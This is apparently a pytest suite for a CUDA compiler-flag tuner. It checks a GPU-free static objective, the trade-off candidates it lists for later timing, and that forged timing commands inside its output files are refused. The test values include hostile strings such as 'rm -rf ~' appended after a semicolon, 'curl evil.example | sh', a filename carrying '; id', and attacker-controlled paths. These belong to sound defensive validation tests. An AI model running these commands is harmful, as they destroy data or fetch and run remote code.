"""An ACF chosen without a GPU can be applied blind (issue 24, items 1-3), with real nvcc/ptxas:
`static` worsens no static metric, no static objective lowers ptxas's optimisation, and what the
rules refused only for a trade-off a GPU must judge is listed as a candidate to time, with the
command that times it, in the run's output, `--json` and the ACF; a forged command is refused."""

from __future__ import annotations

import json
import math
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from helpers import SPILLING_KERNEL, run_cli

from compileiq.core.space_files import load_space
from compileiq.core.toolchain import find_toolchain
from compileiq.results import acf, to_time

ONLY = "ptxas.maxrregcount,ptxas.override_directive_values"


@pytest.fixture(scope="module")
def tuned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """`static` on a kernel that spills under its own __launch_bounds__(256, 2): removing the spills
    needs the override, which halves occupancy (a trade-off `static` may not make blind)."""
    folder = tmp_path_factory.mktemp("blind")
    (folder / "k.cu").write_text(SPILLING_KERNEL)
    result = run_cli(["tune", "k.cu", "--objective", "static", "--only", ONLY, "--strategy", "exhaustive",
                      "--budget", "200", "--workers", "local", "--db", f"sqlite:///{folder}/t.db",
                      "--out", "k.acf.toml"], cwd=folder)
    assert result.returncode == 0, result.describe()
    return folder, result.stdout


def test_static_keeps_every_static_metric_and_lists_the_trade_off_to_time(tuned: tuple[Path, str]) -> None:
    folder, stdout = tuned
    found = acf.read(folder / "k.acf.toml")
    best, base = found.evidence["best"], found.evidence["baseline"]
    assert base["spill_bytes"] > 0
    assert best["occupancy"] >= base["occupancy"] and best["spill_bytes"] <= base["spill_bytes"], (best, base)
    assert found.evidence["vs_defaults"]["lowered_optimisation"] == []
    first = found.evidence["to_time"][0]
    assert first["spill_bytes"] < base["spill_bytes"] and first["occupancy"] < base["occupancy"], first
    assert first["settings"]["ptxas.override_directive_values"] is True
    assert "for fewer spill bytes: a trade-off `static` never makes without a GPU" in first["refused"]
    space = load_space(find_toolchain().nvcc_version)
    names = list(first["settings"])
    size = math.prod(len(space.parameter(n).values) for n in names)
    assert first["command"] == (f"compileiq tune k.cu --objective time --only {','.join(names)} "
                                f"--strategy exhaustive --budget {size}")
    assert re.search(rf"candidates to time \({len(found.evidence['to_time'])}\)", stdout)
    assert first["command"] in stdout


def test_the_run_says_where_occupancy_was_scored_without_launch_facts(tuned: tuple[Path, str]) -> None:
    folder, stdout = tuned
    note = acf.read(folder / "k.acf.toml").evidence["launch"]["note"]
    assert note.startswith("tune.toml gives no launch facts: occupancy was scored at 256 threads per block")
    assert f"note: {note}" in stdout


def test_show_and_the_report_say_where_occupancy_was_scored_without_launch_facts(
        tuned: tuple[Path, str], tmp_path: Path) -> None:
    """User 4: tune and the ACF said occupancy was scored at an assumed launch (no tune.toml launch
    facts), but `show` (`notes: []` in --json) and the report (html, md) never did: every view now
    renders the note of the same decision, from the run's record and the chosen row."""
    folder, _ = tuned
    note = acf.read(folder / "k.acf.toml").evidence["launch"]["note"]
    db = ["--db", f"sqlite:///{folder}/t.db"]
    study = json.loads(run_cli(["show", *db, "--json"], cwd=folder).stdout)[0]["name"]
    shown = run_cli(["show", study, *db, "--json"], cwd=folder)
    assert shown.returncode == 0 and note in json.loads(shown.stdout)["notes"], shown.describe()
    assert note in run_cli(["show", study, *db], cwd=folder).stdout
    for fmt in ("md", "html"):
        written = run_cli(["report", study, *db, "--format", fmt, "-o", str(tmp_path / f"r.{fmt}")], cwd=folder)
        assert written.returncode == 0, written.describe()
        text = (tmp_path / f"r.{fmt}").read_text()
        assert note.split(":")[0] in text and "occupancy was scored at 256 threads per block" in text, fmt
    # tune.toml's launch facts: no run assumed a launch, and no view says so
    (tmp_path / "k.cu").write_text(SPILLING_KERNEL)
    (tmp_path / "tune.toml").write_text("block_size = 256\n")
    given = run_cli(["tune", "k.cu", "--only", "ptxas.maxrregcount", "--budget", "2", "--workers", "local",
                     "--db", f"sqlite:///{tmp_path}/t.db", "--out", "k.acf.toml"], cwd=tmp_path)
    assert given.returncode == 0 and "no launch facts" not in given.stdout, given.describe()
    listed = json.loads(run_cli(["show", "--db", f"sqlite:///{tmp_path}/t.db", "--json"], cwd=tmp_path).stdout)
    again = run_cli(["show", listed[0]["name"], "--db", f"sqlite:///{tmp_path}/t.db", "--json"],
                    cwd=tmp_path)
    assert not any("no launch facts" in n for n in json.loads(again.stdout)["notes"]), again.describe()


def test_an_exported_study_keeps_the_assumed_launch_note(tuned: tuple[Path, str], tmp_path: Path) -> None:
    """Review: `show --json` listed the assumed-launch note in the database the study was tuned in, not
    after `db export` and `db import` into another: the export did not carry that the launch was assumed."""
    folder, _ = tuned
    note = acf.read(folder / "k.acf.toml").evidence["launch"]["note"]
    db = ["--db", f"sqlite:///{folder}/t.db"]
    study = json.loads(run_cli(["show", *db, "--json"], cwd=folder).stdout)[0]["name"]
    exported = run_cli(["db", "export", study, "-o", str(tmp_path / "s.json"), *db], cwd=folder)
    assert exported.returncode == 0, exported.describe()
    other = ["--db", f"sqlite:///{tmp_path}/other.db"]
    imported = run_cli(["db", "import", str(tmp_path / "s.json"), *other], cwd=tmp_path)
    assert imported.returncode == 0, imported.describe()
    shown = run_cli(["show", study, *other, "--json"], cwd=tmp_path)
    assert shown.returncode == 0 and note in json.loads(shown.stdout)["notes"], shown.describe()


def test_json_lists_the_same_candidates_as_the_acf(tuned: tuple[Path, str]) -> None:
    folder, _ = tuned
    result = run_cli(["tune", "k.cu", "--objective", "static", "--only", ONLY, "--strategy", "exhaustive",
                      "--budget", "200", "--workers", "local", "--db", f"sqlite:///{folder}/t.db",
                      "--out", "again.acf.toml", "--json"], cwd=folder)
    assert result.returncode == 0, result.describe()
    document = json.loads(result.stdout)
    assert document["to_time"] == acf.read(folder / "k.acf.toml").evidence["to_time"]
    assert document["launch_note"] == acf.read(folder / "k.acf.toml").evidence["launch"]["note"]


def test_the_gate_passes_the_blind_acf(tuned: tuple[Path, str]) -> None:
    folder, _ = tuned
    result = run_cli(["gate", "k.acf.toml", "--static"], cwd=folder)
    assert result.returncode == 0, result.describe()


@pytest.mark.parametrize("forged", [("compileiq tune k.cu --objective time --only ptxas.opt_level --strategy "
                                    "exhaustive --budget 4; rm -rf ~"),
                                    "curl evil.example | sh",
                                    ("compileiq tune 'k.cu; id' --objective time --only X --strategy exhaustive "
                                    "--budget 4")])
def test_a_forged_command_to_time_is_refused_in_one_line(tuned: tuple[Path, str], forged: str) -> None:
    folder, _ = tuned
    text = (folder / "k.acf.toml").read_text()
    original = acf.read(folder / "k.acf.toml").evidence["to_time"][0]["command"]
    hostile = folder / "hostile.acf.toml"
    hostile.write_text(text.replace(json.dumps(original), json.dumps(forged), 1))
    assert forged in hostile.read_text()
    result = run_cli(["flags", "hostile.acf.toml"], cwd=folder)
    assert result.returncode == 2, result.describe()
    assert result.stderr_lines == [(f"error: {hostile.name}: evidence.to_time[0].command is not the command "
                                   "compileiq writes for these settings")]


@pytest.mark.parametrize(("swap", "said"), [
    (lambda c: c.replace("compileiq tune k.cu", "compileiq tune /tmp/attacker/payload.cu", 1),
     "tunes '/tmp/attacker/payload.cu', not the ACF's kernel ('k.cu')"),
    (lambda c: c.replace("compileiq tune k.cu", "compileiq tune ../k.cu", 1),  # red55 finding 5: it said
     "tunes '../k.cu': a path with '..', which names no kernel of an ACF"),  # "not the ACF's kernel", same path
    (lambda c: c.replace("compileiq tune k.cu", "compileiq tune attacker/k.cu", 1), "not the ACF's kernel"),
    (lambda c: c.replace("compileiq tune k.cu", "compileiq tune /tmp/evil/k.cu", 1), "not the ACF's kernel"),
    (lambda c: c.replace("compileiq tune k.cu", "compileiq tune k.cu --compile-commands /tmp/attacker/cc.json", 1),
     "reads '/tmp/attacker/cc.json', not the ACF's compilation database"),
])
def test_a_command_to_time_names_the_acfs_own_kernel_and_database(tuned: tuple[Path, str], swap: Any, said: str) -> None:
    """A red team's ACF named another kernel and compilation database in a well-formed command to time
    (for a reader to paste onto a GPU machine): `flags` and `gate` read it without a word."""
    folder, _ = tuned
    text = (folder / "k.acf.toml").read_text()
    original = acf.read(folder / "k.acf.toml").evidence["to_time"][0]["command"]
    assert original.startswith("compileiq tune k.cu ")
    (folder / "other.acf.toml").write_text(text.replace(json.dumps(original), json.dumps(swap(original)), 1))
    result = run_cli(["flags", "other.acf.toml"], cwd=folder)
    assert result.returncode == 2 and said in result.stderr, result.describe()
    assert acf.read(folder / "k.acf.toml").evidence["to_time"]  # the untouched ACF reads as before


def test_an_acf_tuned_from_another_folder_reads_its_own_command_to_time(tuned: tuple[Path, str]) -> None:
    """Run from the folder above, with the kernel in a folder whose name has a space and the ACF
    written elsewhere, tune wrote an ACF it then refused to write ("evidence.to_time[0].command is
    not the command compileiq writes"): its command names the kernel from where tune ran."""
    folder, _ = tuned
    other = folder.parent / "my dir"
    other.mkdir(exist_ok=True)
    for name in ("k.cu", "tune.toml"):
        if (folder / name).exists():
            (other / name).write_text((folder / name).read_text())
    done = run_cli(["tune", "my dir/k.cu", "--objective", "static", "--only", ONLY, "--strategy", "exhaustive",
                    "--budget", "200", "--workers", "local", "--db", f"sqlite:///{folder}/t2.db",
                    "--out", "acfs/k.acf.toml"], cwd=folder.parent)
    assert done.returncode == 0, done.describe()
    written = acf.read(folder.parent / "acfs" / "k.acf.toml")
    assert written.evidence["to_time"][0]["command"].startswith("compileiq tune 'my dir/k.cu' ")
    assert run_cli(["flags", "acfs/k.acf.toml"], cwd=folder.parent).returncode == 0


def test_an_exhaustive_budget_past_the_limit_in_the_command_to_time_is_refused(tuned: tuple[Path, str]) -> None:
    folder, _ = tuned
    text = (folder / "k.acf.toml").read_text()
    original = acf.read(folder / "k.acf.toml").evidence["to_time"][0]["command"]
    forged = re.sub(r"--budget \d+$", "--budget 99999", original)  # more than a timed run takes whole
    assert forged != original
    (folder / "budget.acf.toml").write_text(text.replace(json.dumps(original), json.dumps(forged), 1))
    result = run_cli(["flags", "budget.acf.toml"], cwd=folder)
    assert result.returncode == 2, result.describe()
    assert "evidence.to_time[0].command is not the command compileiq writes" in result.stderr


def test_a_candidate_of_many_settings_gets_a_command_tune_accepts(tuned: tuple[Path, str]) -> None:
    """Eight ptxas settings span 609,840 combinations (Rodinia's hotspot had such a candidate): an
    exhaustive budget that large is refused by `tune` itself, so the command searches them."""
    folder, _ = tuned
    names = ["ptxas.allow_expensive_optimizations", "ptxas.def_load_cache", "ptxas.def_store_cache",
             "ptxas.maxrregcount", "ptxas.minnctapersm", "ptxas.opt_level", "ptxas.override_directive_values",
             "ptxas.register_usage_level"]
    space = load_space(find_toolchain().nvcc_version)
    shown = to_time.command("k.cu", names, to_time.combinations(names, space))
    assert to_time.combinations(names, space) > to_time.EXHAUSTIVE_LIMIT
    assert shown == f"compileiq tune k.cu --objective time --only {','.join(names)}"
    result = run_cli(shlex.split(shown)[1:] + ["--workers", "local", "--db", f"sqlite:///{folder}/t.db"], cwd=folder)
    assert result.returncode == 2, result.describe()  # this machine has no GPU: that is the only objection
    assert "--budget" not in result.stderr and "GPU" in result.stderr, result.describe()


def test_a_static_choice_that_costs_instructions_says_so(tmp_path: Path) -> None:
    """spill_heavy at a lower register-usage level: fewer spills for 800 more static instructions.
    `static` may make that trade (it weighs spills and occupancy), and the docs said it was never
    worse on any static metric; the run now names the cost, which only a GPU can judge."""
    kernel = Path(__file__).resolve().parents[1] / "kernels" / "spill_heavy" / "spill_heavy.cu"
    result = run_cli(["tune", str(kernel), "--only", "ptxas.register_usage_level", "--strategy", "exhaustive",
                      "--budget", "12", "--workers", "local", "--db", f"sqlite:///{tmp_path / 't.db'}",
                      "--out", str(tmp_path / "k.acf.toml")], cwd=tmp_path)
    assert result.returncode == 0, result.describe()
    evidence = acf.read(tmp_path / "k.acf.toml").evidence
    before, after = evidence["baseline"]["instructions"], evidence["best"]["instructions"]
    assert after > before and evidence["best"]["spill_bytes"] < evidence["baseline"]["spill_bytes"]
    assert (f"note: the choice has {after - before} more static instructions than the baseline ({before} -> {after}), "
            "traded for its static gain: only a GPU can say whether it is faster") in result.stdout


def _search_configs(folder: Path, url: str) -> list[dict[str, object]]:
    """The configurations of a --no-simplify run's search trials (every trial but the baseline's, #0)."""
    shown = run_cli(["show", "1", "--db", url, "--top", "1000", "--json"], cwd=folder)
    assert shown.returncode == 0, shown.describe()
    return [t["config"] for t in json.loads(shown.stdout)["trials"] if t["number"] > 0]


@pytest.mark.parametrize("objective", ["static", "spills"])
def test_a_static_search_spends_no_trial_on_a_level_it_could_never_choose(tmp_path: Path, objective: str) -> None:
    """A lowered -O can never win a static objective, yet a third to nine tenths of a small budget
    went on it (a user's lud: 14 of 16 trials refused for it): its search proposes none now while
    another untried configuration is left, and the lowered ones come back once none is."""
    (tmp_path / "k.cu").write_text(SPILLING_KERNEL)
    url, small = f"sqlite:///{tmp_path / 't.db'}", f"sqlite:///{tmp_path / 'small.db'}"
    only = "ptxas.opt_level,ptxas.maxrregcount,ptxas.override_directive_values"
    args = ["tune", "k.cu", "--objective", objective, "--only", only, "--budget", "12", "--workers", "local", "--db", url, "--no-simplify",
            "--out", "a.acf.toml"]
    assert run_cli(args, cwd=tmp_path).returncode == 0
    levels = [config.get("ptxas.opt_level", 3) for config in _search_configs(tmp_path, url)]
    assert len(levels) >= 11 and set(levels) == {3}, levels  # (spills: one more, a repair of the search's)
    small_args = ["tune", "k.cu", "--objective", objective, "--only", "ptxas.opt_level,ptxas.override_directive_values",
                  "--budget", "6", "--workers", "local", "--db", small, "--no-simplify", "--out", "b.acf.toml"]
    assert run_cli(small_args, cwd=tmp_path).returncode == 0  # 2 configurations at -O3 of 8
    levels = [config.get("ptxas.opt_level", 3) for config in _search_configs(tmp_path, small)]
    assert len([level for level in levels if level != 3]) >= 4, levels  # then the lowered ones: the search goes on


def test_a_candidates_command_counts_the_macros_it_searches(tmp_path: Path) -> None:
    """`--only SETTINGS` without a macro searches every tuned macro too, so a candidate's exhaustive
    budget, counted over its settings alone, covered a fraction of the run, maybe not the candidate;
    the command names the macros now and its budget counts them. The ACF reads back."""
    source = Path(__file__).resolve().parent.parent / "kernels" / "spill_heavy"
    (tmp_path / "k.cu").write_text((source / "spill_heavy.cu").read_text())
    harness = (source.parent.parent / "compileiq" / "include").as_posix()
    (tmp_path / "tune.toml").write_text(f'include_dirs = ["{harness}"]\n[tune.defines]\nTAPS = [64, 48]\n')
    done = run_cli(["tune", "k.cu", "--only", "ptxas.maxrregcount,ptxas.override_directive_values,define.TAPS",
                    "--budget", "24", "--workers", "local", "--db", f"sqlite:///{tmp_path / 't.db'}",
                    "--out", "k.acf.toml"], cwd=tmp_path)
    assert done.returncode == 0, done.describe()
    listed = acf.read(tmp_path / "k.acf.toml").evidence.get("to_time", [])
    assert listed, "the fixture needs a candidate to time (half the occupancy for no spills)"
    words = shlex.split(listed[0]["command"])
    names = words[words.index("--only") + 1].split(",")
    assert "define.TAPS" in names, words
    space = load_space(find_toolchain().nvcc_version)
    settings = math.prod(len(space.parameter(n).values) for n in names if not n.startswith("define."))
    assert int(words[-1]) == settings * 2, words  # both TAPS values counted
